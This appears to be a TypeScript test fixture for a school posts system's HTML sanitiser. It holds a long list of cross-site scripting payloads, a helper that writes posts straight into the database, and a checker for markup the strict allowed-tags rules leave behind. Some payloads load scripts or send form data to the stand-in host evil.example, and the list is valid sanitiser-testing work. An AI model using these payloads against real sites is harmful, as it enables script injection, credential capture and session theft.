import { sql } from 'kysely'
import { attributes, isSafeImage, isSafeLink, tags } from '../../rules/markup.ts'
import type { School } from '../testing/school.ts'

/** PNG of one pixel. */
const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=='

/** Markup that wants to call `ran`, to load something or to break out of its place; one way each. */
export const hostile = [
  '<script>ran()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<script >ran()</script\t\n>',
  '<script/x>ran()</script>',
  '<script type=module>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()"//',
  '<img/src/onerror=ran()>',
  '<img src="x` `<script>ran()</script>"` `>',
  '<IMG """><SCRIPT>ran()</SCRIPT>">',
  '<img src=x:x onerror=\u0000ran()>',
  '<img src="javascript:ran()">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+">',
  '<img src="data:text/html,<script>ran()</script>">',
  `<img src="data:image/png;base64,${dot}" onload=ran() onerror=ran()>`,
  '<img srcset="https://evil.example/a.png 1x, x 2x" onerror=ran()>',
  '<img src="https://evil.example/track.png">',
  '<picture><source srcset="https://evil.example/p.png"><img src=x onerror=ran()></picture>',
  '<p onclick=ran() onmouseover=ran() onfocus=ran() tabindex=0 autofocus>text</p>',
  '<p onpointerrawupdate="ran()" onbeforetoggle="ran()" onscrollend="ran()">text</p>',
  '<details open ontoggle=ran()>text</details>',
  '<body onload=ran()><p>text',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()><option>x</select>',
  '<video src=x onerror=ran()><source onerror=ran()></video>',
  '<audio src=x onerror=ran() autoplay></audio>',
  '<marquee onstart=ran()>text</marquee>',
  '<a href="javascript:ran()">link</a>',
  '<a href="JaVaScRiPt:ran()">link</a>',
  '<a href=" \u0001javascript:ran()">link</a>',
  '<a href="java&#x09;script:ran()">link</a>',
  '<a href="java\nscript:ran()">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;ran()">link</a>',
  '<a href="&#0000106avascript&#58ran()">link</a>',
  '<a href="javascript&colon;//%0aran()">link</a>',
  '<a href="vbscript:ran()">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">link</a>',
  '<a href="blob:https://evil.example/1">link</a>',
  '<a href="//evil.example/path">link</a>',
  '<a href="https://ok.example/" ping="https://evil.example/ping" target="_self" rel="opener" onclick=ran()>link</a>',
  '<a href="https://ok.example/" style="position:fixed;inset:0" download>link</a>',
  '<svg onload=ran()></svg>',
  '<svg><script>ran()</script></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y=9>link</text></a></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:ran() /><text y=9>link</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"></use></svg>',
  '<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>',
  '<svg><style><img src="</style><img src=x onerror=ran()>"></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<svg><title><noscript><img src="</noscript><img src=x onerror=ran()>"></title></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<math><mi//xlink:href="data:x,<script>ran()</script>"></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=ran() src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<template><img src=x onerror=ran()></template>',
  '<p is="x-y"><template shadowrootmode=open><script>ran()</script></template></p>',
  '<style>@import "https://evil.example/x.css"; p{background:url(javascript:ran())}</style>',
  '<style><!--</style><img src=x onerror=ran()>--></style>',
  '<p style="background:url(https://evil.example/x.png);width:expression(ran());-moz-binding:url(x)">text</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>ran()</script>">',
  '<base href="https://evil.example/"><p>text</p>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:ran()">send</button></form>',
  '<form id=x><input name=attributes><input name=nodeName><input name=parentNode></form>',
  '<img name=getElementById><a id=page href="https://evil.example/">x</a><form name=body></form>',
  '<p id=root class=modal name=cookie>text</p>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<frameset onload=ran()><frame src="javascript:ran()"></frameset>',
  '<object data="data:text/html,<script>ran()</script>"></object>',
  '<embed src="javascript:ran()">',
  '<applet code=x archive="https://evil.example/x.jar"></applet>',
  '<textarea><p title="</textarea><img src=x onerror=ran()>">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<plaintext><img src=x onerror=ran()>',
  '<title><p title="</title><img src=x onerror=ran()>">',
  '<p>text<!-- <img src=x onerror=ran()>',
  '<!--><img src=x onerror=ran()>-->',
  '<!--!> <img src=x onerror=ran()> --!>',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml-stylesheet href="javascript:ran()"?><p>text</p>',
  '<!DOCTYPE x [<!ENTITY e "<script>ran()</script>">]><p>&e;</p>',
  '<table background="javascript:ran()"><tr><td background="https://evil.example/x.png">text</table>',
  '<table><tr><td><img src=x onerror=ran()></table><table><caption><svg onload=ran()>',
  '<p title="&quot;><img src=x onerror=ran()>">text</p>',
  '<q cite="javascript:ran()">text</q><blockquote cite="javascript:ran()">text</blockquote>',
  '<p contenteditable onpaste=ran() accesskey=x>text</p>',
  '<x-y onclick=ran() style=display:block>text</x-y>',
  '<dialog open oncancel=ran()>text</dialog><button popovertarget=x onclick=ran()>b</button>',
  '<p><p><b><i><a href="https://ok.example/"><a href="javascript:ran()"><img src=x onerror=ran()>',
  '&lt;script&gt;ran()&lt;/script&gt;&lt;img src=x onerror=ran()&gt;',
  `${'<b>'.repeat(600)}<img src=x onerror=ran()>`,
  '</p></div></section></main></body></html><script>ran()</script>',
  `<img src="data:image/png;base64,${dot}" width="100%" height="calc(1px)" alt="<img src=x onerror=ran()>">`,
]

type Told = {
  title?: string
  groups?: number[]
  isInline?: boolean
  isForGuardians?: boolean
  content?: string
  at?: string
  /** When it is to be published, if it is planned. */
  publishAt?: string
}

/** Puts a post straight into the tables, with whatever it holds; its id. */
export async function post({ db }: Pick<School, 'db'>, told: Told = {}): Promise<number> {
  const {
    title = 'Новина',
    groups = [],
    isInline = false,
    isForGuardians = false,
    content = '',
    publishAt = null,
    at = publishAt ? 'infinity' : '2027-03-15T08:00:00Z',
  } = told
  const { rows } = await sql<{ id: number }>`
    with post as (
      insert into posts (title, is_inline, is_for_guardians, content, posted_at, publish_at, changed_at)
      values (${title}, ${isInline}, ${isForGuardians}, ${content}, ${at}, ${publishAt}, '2027-03-16T08:00:00Z') returning *)
    insert into post_audiences (post_id, group_id, is_for_guardians, posted_at)
    select id, nullif(audience, 0), is_for_guardians, posted_at
    from post, unnest(${groups.length ? groups : [0]}::bigint[]) audience returning post_id as id`.execute(db)
  return rows[0]!.id
}

/** Reads what is left by the strictest grammar: text without `<`, and allowed tags with allowed, quoted attributes. */
export function faultsOf(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((found) => !isAllowed(found))
}

function isAllowed(found: string): boolean {
  const [, end, name, rest = ''] = /^<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)(?: \/)?>$/.exec(found) ?? []
  if (!name || !tags.some((tag) => tag === name) || (end && rest)) return false
  const allowed: readonly string[] = name in attributes ? attributes[name as keyof typeof attributes] : []
  return [...rest.matchAll(/ ([a-z]+)="([^"]*)"/g)].every(([, attribute = '', value = '']) => {
    const told = value.replaceAll('&amp;', '&').replaceAll('&quot;', '"')
    const isSafe = attribute === 'href' ? isSafeLink(told) : attribute === 'src' ? isSafeImage(told) : true
    return allowed.includes(attribute) && isSafe
  })
}
